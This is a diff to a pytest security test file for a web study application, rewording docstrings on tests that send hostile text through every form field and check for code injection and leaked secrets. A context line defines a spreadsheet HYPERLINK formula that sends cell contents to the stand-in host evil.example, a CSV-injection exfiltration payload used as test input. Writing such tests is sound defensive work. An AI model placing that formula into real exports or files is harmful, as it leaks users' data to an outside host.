@@ -1,4 +1,4 @@
-"""What somebody who means ill tries, and what comes of it: docs/explanation/security.md lists every threat."""
+"""Attacks, and what happens: docs/explanation/security.md lists every threat."""
 
 import base64
 import csv
@@ -39,7 +39,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"result")'
 
 @pytest.fixture
 def everything_there(owner, owned, invite):
-    """A closed study of `owner`, with one reader who has finished, who is returned."""
+    """A closed study of `owner` with one reader who has finished; returns the reader."""
     study = owned(practice=0)
     taker = invite(study).enter()
     taker.finish()
@@ -285,7 +285,7 @@ def test_no_answer_of_the_server_holds_a_key_a_password_or_the_hash_of_a_link(ap
 
 
 def hostile_study(app, owner, owned, invite, text):
-    """A study in which every text that anybody can give is `text`, with a reader who has finished."""
+    """A study in which every text that users can enter is `text`, with a reader who has finished."""
     study = owned(practice=0)
     given = []
     for name, entry in study.rules.entries().items():
@@ -334,7 +334,7 @@ def test_no_text_becomes_code_on_any_page(app, owner, owned, invite, log_in):
 
 
 def told_in_forms(app, owner):
-    """What forms answer that are sent hostile text in every field."""
+    """The responses of forms to hostile text in every field."""
     fields = ("title", "slug", "pool", "preset", "name", "role", "pseudonyms", "group", "reason", "until", "cap", "old",
               "new", "again", "modality", "since", "description", "welcome", "limit_s", "width", "sets")  # fmt: skip
     for endpoint, method, address in routes(app):
